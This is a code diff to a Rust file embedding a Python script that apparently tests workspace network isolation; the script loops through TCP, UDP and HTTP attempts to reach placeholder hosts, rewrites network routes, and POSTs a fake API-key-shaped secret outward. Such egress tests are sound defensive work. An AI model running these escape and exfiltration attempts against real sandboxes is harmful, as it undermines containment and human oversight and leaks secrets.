@@ -19,9 +19,10 @@ const STOP_LIMIT: Duration = Duration::from_secs(3);
 /// Tries to get out, over and over, as soon as the workspace has processes; counts its rounds from 0 at each boot.
 const RUNNER: &str = r#"
 import itertools, os, pathlib, socket, subprocess, time
+from concurrent.futures import ThreadPoolExecutor
 pathlib.Path("/home/rounds").unlink(missing_ok=True)
 WEB, OTHER, MARK, SECRET = "@WEB", "@OTHER", "@MARK", "sk-ant-api03-" + "BYPASS" * 16 + "-AA"
-def tcp(address, port, text):
+def tcp(address, port, text=MARK):
     try:
         with socket.create_connection((address, port), 0.5) as sock:
             sock.sendall(text.encode())
@@ -34,17 +35,15 @@ def udp(address, port):
             sock.sendto(MARK.encode(), (address, port))
     except OSError:
         pass
+pool = ThreadPoolExecutor(10)
 post = f"POST /{MARK} HTTP/1.1\r\nHost: web.example\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET}"
 for round in itertools.count():
     way = ("10.10.1.10", "10.10.1.2", "10.10.1.20")[round % 3]
     subprocess.run(["ip", "route", "replace", OTHER, "via", way], stderr=subprocess.DEVNULL)
-    for port in (22, 9000):
-        tcp(WEB, port, MARK)
-        tcp(OTHER, port, MARK)
-        udp(WEB, port)
-        udp(OTHER, port)
-    tcp(WEB, 80, post)
-    tcp(OTHER, 80, post)
+    tries = [(how, to, port) for how in (tcp, udp) for to in (WEB, OTHER) for port in (22, 9000)]
+    tries += [(tcp, to, 80, post) for to in (WEB, OTHER)]
+    for tried in [pool.submit(*each) for each in tries]:
+        tried.result()
     with open("/home/rounds.new", "w") as file:
         file.write(f"{round}\n")
     os.rename("/home/rounds.new", "/home/rounds")
